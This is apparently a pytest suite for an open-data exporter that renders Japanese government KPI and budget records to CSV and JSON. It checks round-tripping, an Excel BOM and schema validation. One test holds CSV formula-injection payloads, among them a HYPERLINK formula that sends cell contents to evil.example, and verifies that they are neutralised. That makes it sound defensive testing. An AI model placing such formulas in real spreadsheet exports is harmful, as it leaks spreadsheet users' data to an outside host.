"""Open data: the files parse back to the same records, CSV opens in Excel (BOM), and the
JSON files validate against their schemas."""

from __future__ import annotations

import csv
import io
import json

import jsonschema
import pytest

from dgdocs.render.data import BUDGET_FIELDS, KPI_FIELDS, budget_records, kpi_records, render_data, roadmap_records


@pytest.fixture(scope="module")
def files(doc):
    return render_data(doc)


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV must start with a BOM for Excel"
    text = data[3:].decode("utf-8")
    assert "\r\n" in text
    return list(csv.DictReader(io.StringIO(text, newline="")))


def as_csv_value(v):
    return "" if v is None else "true" if v is True else "false" if v is False else str(v)


def test_kpis_csv_parses_back_to_the_records(doc, files):
    rows = read_csv(files["kpis.csv"])
    records = kpi_records(doc)
    assert list(rows[0]) == [f for f, _ in KPI_FIELDS]
    assert rows == [{k: as_csv_value(v) for k, v in r.items()} for r in records]
    assert len(records) == sum(len(l.kpis) for l in doc.kpi_lines)


def test_kpis_json_parses_back_to_the_records(doc, files):
    data = json.loads(files["kpis.json"])
    assert data["kpis"] == json.loads(json.dumps(kpi_records(doc), ensure_ascii=False))
    assert data["plan"]["plan_period"] == {"from_fiscal_year": 2020, "to_fiscal_year": 2024}


def test_budget_csv(doc, files):
    rows = read_csv(files["budget.csv"])
    assert list(rows[0]) == [f for f, _ in BUDGET_FIELDS]
    assert rows == [{k: as_csv_value(v) for k, v in r.items()} for r in budget_records(doc)]
    total = next(r for r in rows if r["table_id"] == "budget.system" and r["is_total"] == "true")
    assert total["value"] == "1242"


def test_roadmaps_json_holds_all_appendices(doc, files):
    data = json.loads(files["roadmaps.json"])
    assert [a["number"] for a in data["appendices"]] == [a.number for a in doc.appendices]
    assert data["appendices"] == json.loads(json.dumps(roadmap_records(doc), ensure_ascii=False))


def _validate(instance, schema):
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.Draft202012Validator(schema).validate(instance)


@pytest.mark.parametrize("name", ["kpis", "roadmaps"])
def test_json_files_follow_their_schema(files, name):
    _validate(json.loads(files[f"{name}.json"]), json.loads(files[f"{name}.schema.json"]))


def test_schema_checker_catches_a_wrong_record(files):
    data = json.loads(files["kpis.json"])
    data["kpis"][0]["target_value"] = "百"
    with pytest.raises(jsonschema.ValidationError):
        _validate(data, json.loads(files["kpis.schema.json"]))


def test_readme_explains_every_column(files):
    readme = files["README.md"].decode("utf-8")
    for name, _ in KPI_FIELDS + BUDGET_FIELDS:
        assert f"`{name}`" in readme


INJECTION = '''
-- kpis.yaml --
lines:
  - id: k-rate
    section: period
    text: オンライン利用率、2021年度末までに100%
    kpis:
      - id: k-rate
        indicator: '=HYPERLINK("https://evil.example/?"&A1,"詳細")'
        note: '@SUM(A1:A9)'
        status: "-2+3"
        target: {value: 100, unit: "%", by: 2021, by_text: "＋2021年度末までに"}
-- data/budget.yaml --
tables:
  system:
    title: "\\tタブで始まる表"
    unit: 億円
    category_label: "+区分"
    fiscal_year: 2020
    rows:
      - {id: a, label: 整備経費, value: 178}
      - {id: b, label: 運用等経費, value: 533}
    total: {label: 合計, value: 711}
'''


def test_csv_cells_cannot_become_formulas_and_the_json_keeps_the_text(make_content):
    from dgdocs.load import load

    doc = load(make_content(INJECTION))
    files = render_data(doc)
    kpis = list(csv.DictReader(io.StringIO(files["kpis.csv"].decode("utf-8-sig"))))[0]
    assert kpis["indicator"] == '\'=HYPERLINK("https://evil.example/?"&A1,"詳細")'
    assert kpis["note"] == "'@SUM(A1:A9)" and kpis["status"] == "'-2+3"
    assert kpis["target_deadline"] == "'＋2021年度末までに"
    assert kpis["target_value"] == "100"  # numbers are never touched
    for rec in csv.DictReader(io.StringIO(files["budget.csv"].decode("utf-8-sig"))):
        assert rec["table_title"] == "'\tタブで始まる表" and rec["category_label"] == "'+区分"
        assert not rec["value"].startswith("'")
    data = json.loads(files["kpis.json"])["kpis"][0]
    assert data["indicator"].startswith("=HYPERLINK(") and data["note"] == "@SUM(A1:A9)"
    for name in ("kpis.csv", "budget.csv"):
        for row in csv.reader(io.StringIO(files[name].decode("utf-8-sig"))):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")) for cell in row)
